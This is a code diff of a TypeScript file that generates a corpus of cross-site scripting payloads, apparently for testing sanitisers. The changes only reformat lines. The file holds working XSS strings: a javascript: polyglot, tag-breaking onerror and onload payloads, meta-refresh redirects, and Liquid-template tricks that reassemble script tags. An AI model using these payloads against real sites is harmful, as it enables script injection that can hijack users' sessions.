@@ -168,7 +168,10 @@ const templates: Array<[family: string, template: string]> = [
   ['meta', '<meta http-equiv=refresh content="0;url=javascript:{A}">'],
   ['meta', '<meta content="0;url=data:text/html,<img src={U}>" http-equiv=refresh>'],
   // Polyglots.
-  ['polyglot', 'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk={A} )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={A}//>\\x3e'],
+  [
+    'polyglot',
+    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk={A} )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={A}//>\\x3e',
+  ],
   ['polyglot', '\'"--></style></script><svg onload={A}>'],
   ['polyglot', '"\'><img src=x onerror={A}><"\''],
   ['polyglot', '--></title></style></textarea></script><svg/onload={A}>'],
@@ -183,7 +186,7 @@ const templates: Array<[family: string, template: string]> = [
   ['liquid', "{% assign s = '<img src=x onerror={A}>' %}{{ s }}"],
   ['liquid', "{{ '&lt;img src=x onerror={A}&gt;' | replace: '&lt;', '<' | replace: '&gt;', '>' }}"],
   ['liquid', "{{ '<scr' | append: 'ipt>{A}</scr' | append: 'ipt>' }}"],
-  ['liquid', "{% if true %}<img src=x onerror={A}>{% endif %}"],
+  ['liquid', '{% if true %}<img src=x onerror={A}>{% endif %}'],
   ['liquid', '{{ "<svg/onload=" | append: "{A}>" }}'],
   ['liquid', "{{ ' <img src=x onerror={A}> ' | strip }}"],
   ['liquid', '{% for i in (1..1) %}<script>{A}</script>{% endfor %}'],
@@ -204,7 +207,11 @@ function buildCorpus(): Payload[] {
     for (const [family, template] of templates) {
       const id = corpus.length + 1;
       // The second round shifts the action, so each template is tried with two of the three.
-      corpus.push({ id, family, text: instantiate(template, id, actions[(id + round) % actions.length]!(id)) });
+      corpus.push({
+        id,
+        family,
+        text: instantiate(template, id, actions[(id + round) % actions.length]!(id)),
+      });
     }
   }
   return corpus;
